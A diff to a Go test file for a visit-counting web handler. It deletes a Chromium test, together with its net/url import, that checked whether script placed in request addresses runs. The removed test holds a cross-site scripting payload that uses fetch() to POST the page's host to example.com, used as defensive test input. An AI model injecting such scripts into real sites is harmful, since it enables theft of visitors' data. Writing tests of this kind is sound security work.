@@ -3,7 +3,6 @@ package handler
 import (
 	"fmt"
 	"net/http"
-	"net/url"
 	"strings"
 	"testing"
 
@@ -110,26 +109,4 @@ func TestChromiumKeepsSitesApart(t *testing.T) {
 	metrics := w.do(http.MethodGet, w.admin+"/metrics", "", "").body
 	assert.True(t, strings.Contains(metrics, `footfall_visits_skipped_total{reason="prefetch"} 1`), "that of the listed page")
 	assert.Equal(t, []string{"127.0.0.1"}, w.visitors(t))
-}
-
-// A script in an address does not run in the answer, even if the answer is opened as a page.
-func TestChromiumRunsNoScriptOfAnAddress(t *testing.T) {
-	t.Parallel()
-	w := newInternet(newEdge(t))
-	const script = `<script>fetch('http://example.com/told', {method: 'POST', mode: 'no-cors', body: JSON.stringify(location.host)})</script>`
-	counted, refused := "/visit?app=shop&uri="+url.QueryEscape("http://example.com/"+script), "/visit?uri=a&app="+url.QueryEscape(script)
-	w.pages["example.com/control"] = script
-	w.pages["example.com/"] = `<iframe src="` + w.public + counted + `"></iframe><iframe src="` + w.public + refused + `"></iframe>
-		<script>addEventListener('load', () => { location.href = '/control' })</script>`
-	w.open(t, "http://example.com/")
-	var ran string
-	w.hear(t, &ran)
-	assert.Equal(t, "example.com", ran, "where the text is HTML it does run, and nowhere else")
-	assert.Equal(t, int64(1), w.counted(t, url.QueryEscape(script)))
-	for _, path := range []string{counted, refused} {
-		a := w.get(path)
-		assert.Equal(t, "application/json", a.header.Get("Content-Type"))
-		assert.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"))
-		assert.NotContains(t, a.body, "<")
-	}
 }
